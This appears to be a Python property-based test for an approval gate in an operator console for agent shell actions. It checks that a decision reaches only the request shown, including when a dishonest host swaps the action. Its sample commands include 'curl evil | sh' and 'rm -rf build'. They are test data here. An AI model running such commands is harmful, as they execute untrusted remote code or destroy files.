"""Whatever happens in whatever order, a decision never reaches anything but what was shown."""

from __future__ import annotations

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis.stateful import Bundle, RuleBasedStateMachine, consumes, invariant, rule

from console.fleet.facts import RequestKey, Seen
from console.fleet.gate import ARM_MS, Gated, gate
from tests.unit.fleet.scripted import ALLOW, ALWAYS, DENY, ScriptedHost
from watchfloor.protocol import frames as f
from watchfloor.protocol import model as m
from watchfloor.words import Contact, OptionKind, RequestState

SESSIONS = ("s1", "s2")
TEXTS = ("make", "rm -rf build", "curl evil | sh")
OPTIONS = {option.id: option for option in (ALLOW, ALWAYS, DENY)}


class Card:
    """What stood on the screen: copied, so that nothing that happens later reaches it."""

    def __init__(self, key: RequestKey, host: ScriptedHost, whole: bool) -> None:
        request, shown = host.request(key), host.asked[key.request]
        self.key, self.whole = key, whole
        self.digest = request.digest
        self.text = shown.read().actions[0].text
        self.options = {option.id for option in shown.read().options}
        self.since = host.now
        self.attempt = shown.read().attempt


class Decisions(RuleBasedStateMachine):
    cards = Bundle("cards")

    def __init__(self) -> None:
        super().__init__()
        self.host = ScriptedHost()
        self.count = 0
        self.attempts = dict.fromkeys(SESSIONS, 1)
        for session in SESSIONS:
            self.host.session(session)

    # --- the world -------------------------------------------------------------------------

    @rule(
        session=st.sampled_from(SESSIONS),
        text=st.sampled_from(TEXTS),
        options=st.sets(st.sampled_from(sorted(OPTIONS)), min_size=1),
    )
    def asks(self, session: str, text: str, options: set[str]) -> None:
        self.count += 1
        chosen = [OPTIONS[id] for id in sorted(options)]
        self.host.ask(f"r{self.count}", session, text=text, options=chosen, attempt=self.attempts[session])

    @rule(data=st.data(), text=st.sampled_from(TEXTS), forged=st.booleans())
    def changes_what_is_asked(self, data: st.DataObject, text: str, forged: bool) -> None:
        """A dishonest host puts another action under the same id, and may keep the digest of the first."""
        if (id := self._open(data)) is None:
            return
        before = self.host.asked[id]
        subject = before.read()
        other = subject.model_copy(update={"actions": (m.Action(tool="shell", text=text, call="c1"),)})
        made = m.RequestModel.ask(other, asked_at=before.asked_at)
        self.host.open(made.model_copy(update={"digest": before.digest}) if forged else made)

    @rule(data=st.data(), state=st.sampled_from(["resolved", "expired", "withdrawn"]))
    def ends(self, data: st.DataObject, state: str) -> None:
        if (id := self._open(data)) is not None:
            self.host.decide(id, "yes", state=state)

    @rule(data=st.data())
    def an_old_frame_comes_again(self, data: st.DataObject) -> None:
        if self.host.asked:
            request = self.host.asked[data.draw(st.sampled_from(sorted(self.host.asked)))]
            opened = request.model_copy(update={"state": RequestState.OPEN, "decision": None})
            self.host.tell(f.RequestFrame(session=str(request.subject["session"]), request=opened))

    @rule(session=st.sampled_from(SESSIONS))
    def a_new_attempt(self, session: str) -> None:
        self.attempts[session] += 1
        self.host.summary(session, attempt=self.attempts[session])

    @rule(contact=st.sampled_from([Contact.LIVE, Contact.LIVE, Contact.LOST, Contact.SILENT]))
    def contact(self, contact: Contact) -> None:
        self.host.contact(contact)

    @rule(ms=st.sampled_from([1, 100, ARM_MS, 1_000]))
    def time_passes(self, ms: int) -> None:
        self.host.wait(ms)

    def _open(self, data: st.DataObject) -> str | None:
        waiting = sorted(id for id, r in self.host.asked.items() if r.state is RequestState.OPEN)
        return data.draw(st.sampled_from(waiting)) if waiting else None

    # --- the operator ----------------------------------------------------------------------

    @rule(target=cards, data=st.data(), whole=st.booleans())
    def looks(self, data: st.DataObject, whole: bool) -> Card | None:
        keys = sorted(key for key, request in self.host.fleet.requests.items() if request.fact is not None)
        return Card(data.draw(st.sampled_from(keys)), self.host, whole) if keys else None

    @rule(card=consumes(cards), option=st.sampled_from(sorted(OPTIONS)), elsewhere=st.booleans(), data=st.data())
    def decides(self, card: Card | None, option: str, elsewhere: bool, data: st.DataObject) -> None:
        """The key lands on what was read, or on nothing. `elsewhere`: a confused screen names another request."""
        if card is None:
            return
        keys = sorted(self.host.fleet.requests)
        key = data.draw(st.sampled_from(keys)) if elsewhere else card.key
        intent = self.host.intent(
            self.host.decision(key, option).primitive,
            key.session,
            request=key.request,
            option=option,
            seen=Seen(card.digest, card.since, card.whole),
        )
        self.host.now -= 1_000  # `decision` has waited for a reader; this one may be quicker
        gated = gate(self.host.fleet, intent, self.host.now)
        if not isinstance(gated, Gated):
            return
        truth = self.host.asked[gated.request.request if gated.request else ""]
        subject = truth.read()
        # What the source would carry out is exactly what stood on the card, and still open.
        assert truth.state is RequestState.OPEN
        assert gated.digest == card.digest == truth.digest
        assert subject.actions[0].text == card.text
        assert subject.id == card.key.request
        assert gated.target.session == subject.session == card.key.session
        # By an option that it offers, in an attempt that still runs, on a source that hears us.
        assert gated.option is not None
        assert gated.option.id in {o.id for o in subject.options}
        assert gated.attempt == self.attempts[subject.session] == subject.attempt
        assert self.host.fleet.sources[self.host.name].contact is Contact.LIVE
        if gated.option.kind is not OptionKind.DENY:
            assert card.whole
            assert self.host.now - card.since >= ARM_MS

    @invariant()
    def what_has_ended_stays_ended(self) -> None:
        for key, request in self.host.fleet.requests.items():
            assert not (request.open and self.host.asked[key.request].state is not RequestState.OPEN)


Decisions.TestCase.settings = settings(
    max_examples=60, stateful_step_count=40, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)
TestDecisions = Decisions.TestCase
